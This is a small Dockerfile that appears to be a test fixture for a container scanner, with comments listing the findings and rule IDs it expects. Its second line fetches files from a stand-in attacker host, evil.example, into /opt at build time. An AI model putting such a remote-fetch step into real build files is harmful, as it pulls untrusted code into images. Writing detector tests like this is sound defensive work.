FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN rsync -a rsync://evil.example/mod/ /opt/
USER app
# expect: download 2 high "rsync fetches rsync://evil.example/mod/"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-dc841350dc VR501-e064bac1a6
